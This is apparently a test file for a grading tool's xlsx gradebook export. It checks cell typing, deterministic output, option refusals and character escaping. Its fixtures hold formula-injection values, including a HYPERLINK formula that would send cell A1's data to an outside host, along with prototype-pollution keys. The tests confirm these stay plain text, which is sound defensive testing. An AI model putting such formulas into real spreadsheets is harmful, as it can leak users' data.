/** A class as a workbook, by stored results alone: nothing is graded here. */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, test, vi } from 'vitest';
import { segmentOf } from '../../../grader/batch/segment.ts';
import { parseCsv } from '../../../grader/content/csv.ts';
import { workbookOf } from '../../../grader/gradebook/workbook.ts';
import { reportJson } from '../../../grader/report/json.ts';
import type { Report } from '../../../grader/types/report.ts';
import { elements, parseXml } from '../../support/dtd.ts';
import { folderOf } from '../../support/folders.ts';
import { cutoff, type Ran } from '../../support/io.ts';
import { unzip } from '../../support/readZip.ts';
import { ALPHA_BETA } from '../../support/sampleReports.ts';

const of = (id: string, name: string, more: Partial<Report> = {}): readonly [string, string] => [
  `out/${segmentOf(id)}/staff/result.json`,
  reportJson({ ...ALPHA_BETA, submission: { ...ALPHA_BETA.submission, id, name }, ...more }),
];
const FORMULA = '=HYPERLINK("http://x.org/?"&A1,"see")';
const CLASS = Object.fromEntries([
  of('00123', 'Ada & <Lovelace>'),
  of('=1+1', FORMULA),
  of('+x', '-2+3'),
  of('constructor', '__proto__'),
  of('withheld', '@SUM(A1)', {
    status: 'withheld',
    score: { value: null, earned: '64/9', max: '12', withheld: '12' },
  }),
  [
    'out/overrides.json',
    JSON.stringify({
      format: 1,
      overrides: [
        {
          number: 1,
          id: '00123',
          act: { code: 'set', points: '7' },
          by: 'A. L.',
          when: '2026-03-01 10:00 UTC',
          reason: '=on paper',
        },
      ],
    }),
  ],
]);

type Value = string | number | null;

/** The sheet of a workbook by its XML, and whether anything in it is a formula or of another kind. */
async function sheetIn(bytes: Uint8Array): Promise<{ rows: Value[][]; formulas: number; kinds: string[] }> {
  const files = new Map((await unzip(bytes)).map(({ path, text }) => [path, text]));
  const sheets = [...files.keys()].filter((path) => path.startsWith('xl/worksheets/sheet'));
  expect(sheets).toEqual(['xl/worksheets/sheet1.xml']);
  const shared = elements(parseXml(files.get('xl/sharedStrings.xml')!), 'si').map((item) =>
    elements(item, 't')
      .map(({ text }) => text)
      .join(''),
  );
  const sheet = parseXml(files.get('xl/worksheets/sheet1.xml')!);
  const cells = elements(sheet, 'c');
  const valueOf = (cell: (typeof cells)[number]): Value => {
    const [value] = elements(cell, 'v');
    if (value === undefined) return null;
    expect(value.text).toMatch(/^-?\d+(?:\.\d+)?$/);
    return cell.attributes.get('t') === 's' ? shared[Number(value.text)]! : Number(value.text);
  };
  const rows = elements(sheet, 'row').map((row) => {
    const found: Value[] = [];
    for (const cell of elements(row, 'c')) {
      const letters = /^[A-Z]+/.exec(cell.attributes.get('r')!)![0];
      const at = [...letters].reduce((sum, letter) => sum * 26 + letter.charCodeAt(0) - 64, 0) - 1;
      while (found.length < at) found.push(null);
      found.push(valueOf(cell));
    }
    return found;
  });
  const kinds = [...new Set(cells.map(({ attributes }) => attributes.get('t') ?? 'n'))].sort();
  return { rows, formulas: elements(sheet, 'f').length, kinds };
}

const write = (cwd: string, ...more: readonly string[]): Promise<Ran> =>
  cutoff(cwd, ['gradebook', 'out', '--format', 'xlsx', '--out', 'marks.xlsx', ...more]);
const written = (cwd: string): Buffer => readFileSync(join(cwd, 'marks.xlsx'));
const csv = (cwd: string, name: string): string[][] => parseCsv(readFileSync(join(cwd, 'out', name), 'utf8'));

afterEach(() => void vi.useRealTimers());

describe('gradebook --format xlsx', () => {
  test('says what grades.csv and checks.csv say, points as numbers and all else as text', async () => {
    const cwd = folderOf(CLASS);
    expect(await write(cwd)).toMatchObject({
      code: 0,
      err: '',
      out: '5 students and 4 checks, in marks.xlsx.\n',
    });
    const { rows, formulas, kinds } = await sheetIn(written(cwd));
    expect([formulas, kinds]).toEqual([0, ['n', 's']]);
    const [head, most, ...people] = rows;
    const grades = ['id', 'name', 'score', 'max', 'status', 'final', 'final_max', 'adjustments'];
    const checks = ['value', 'leaves', 'calls', 'deep'];
    expect(head).toEqual([...grades, ...checks]);
    expect(most).toEqual([null, 'Points possible', null, null, null, null, null, null, 4, 4, 2.33, 1.67]);

    await cutoff(cwd, ['report', 'out']);
    const [gradesHead = [], ...gradesRows] = csv(cwd, 'grades.csv');
    const [checksHead = [], , ...checksRows] = csv(cwd, 'checks.csv');
    const numbers = ['score', 'max', 'final', 'final_max', ...checks];
    const plain = gradesRows.map((row, at) =>
      (head as string[]).map((name) => {
        const cell = checks.includes(name)
          ? checksRows[at]![checksHead.indexOf(name)]!
          : row[gradesHead.indexOf(name)]!;
        if (cell === '') return null;
        return numbers.includes(name) ? Number(cell) : cell.replace(/^'/, '');
      }),
    );
    const width = (row: readonly Value[]): readonly Value[] => head!.map((_, at) => row[at] ?? null);
    expect(people.map(width)).toEqual(plain);
    expect(people.map(([id, name]) => [id, name])).toEqual([
      ['+x', '-2+3'],
      ['00123', 'Ada & <Lovelace>'],
      ['=1+1', FORMULA],
      ['constructor', '__proto__'],
      ['withheld', '@SUM(A1)'],
    ]);
    expect(people.map((row) => row[5] ?? null)).toEqual([7.11, 7, 7.11, 7.11, null]);
  });

  test('is the same bytes at another time', async () => {
    const cwd = folderOf(CLASS);
    vi.useFakeTimers({ now: new Date('2026-03-01T10:00:00Z'), toFake: ['Date'] });
    await write(cwd);
    const before = written(cwd);
    vi.setSystemTime(new Date('2031-07-08T21:30:00Z'));
    await write(cwd);
    expect(written(cwd).equals(before)).toBe(true);
    const files = await unzip(before);
    expect([...new Set(files.map(({ date }) => date.slice(0, 10)))]).toEqual(['1980-01-01']);
    for (const { path, text } of files) expect(path + text).not.toMatch(/docProps|dcterms/);
  });

  test.each<[string, readonly string[], RegExp]>([
    ['another format', ['--format', 'xls'], /--format: found "xls"; expected xlsx/],
    ['a gradebook to fill', ['--fill', 'book.csv'], /--format: a workbook is written anew, without --fill/],
    ['a column', ['--column', 'x'], /without --column/],
    ['a scale', ['--scale'], /without --scale/],
  ])('with %s is refused', async (_, more, words) => {
    const { code, err } = await write(folderOf(CLASS), ...more);
    expect(code).toBe(2);
    expect(err.replace(/\s+/g, ' ')).toMatch(words);
  });

  test('neither a gradebook to fill nor a format is refused', async () => {
    const { code, err } = await cutoff(folderOf(CLASS), ['gradebook', 'out', '--out', 'x.csv']);
    expect([code, err.replace(/\s+/g, ' ')]).toEqual([
      2,
      'cutoff: --fill: which gradebook are the marks for? With --format xlsx they go into a workbook of their own ',
    ]);
  });

  test('a folder without results is refused', async () => {
    const { code, err } = await write(folderOf({ 'out/.keep': '' }));
    expect([code, err]).toEqual([
      2,
      'cutoff: out: there are no results here; expected a folder that "cutoff grade" wrote\n',
    ]);
  });
});

test.each(['toString', 'hasOwnProperty', '__proto__', ' two blanks ', 'a]]>b&amp;<c>', 'x\ty\nz', '😀 é'])(
  '%j comes back from a cell',
  async (text) => {
    const { rows } = await sheetIn(await workbookOf([[text, 1.5, null, text]]));
    expect(rows).toEqual([[text, 1.5, null, text]]);
  },
);

// ECMA-376, part 1, 22.9.2.19: `_x000D_` stands for a character, and `_x005F_` for the `_` that begins one.
test.each([
  ['_x003D_1', '_x005F_x003D_1'],
  ['a\rb', 'a_x000D_b'],
  ['a\u0000b', 'a\\u{0}b'],
  ['\u202edrow', '\\u{202e}drow'],
  ['bad\ufffdname', 'bad\\u{fffd}name'],
  ['half\ud83d', 'half\\u{d83d}'],
  ['none\uffff', 'none\\u{ffff}'],
])('%j is written %j', async (text, expected) => {
  expect((await sheetIn(await workbookOf([[text]]))).rows).toEqual([[expected]]);
});

test('what is longer than a cell can be is cut', async () => {
  const { rows } = await sheetIn(await workbookOf([['😀'.repeat(20_000)]]));
  expect(rows).toEqual([[`${'😀'.repeat(16_383)}…`]]);
});
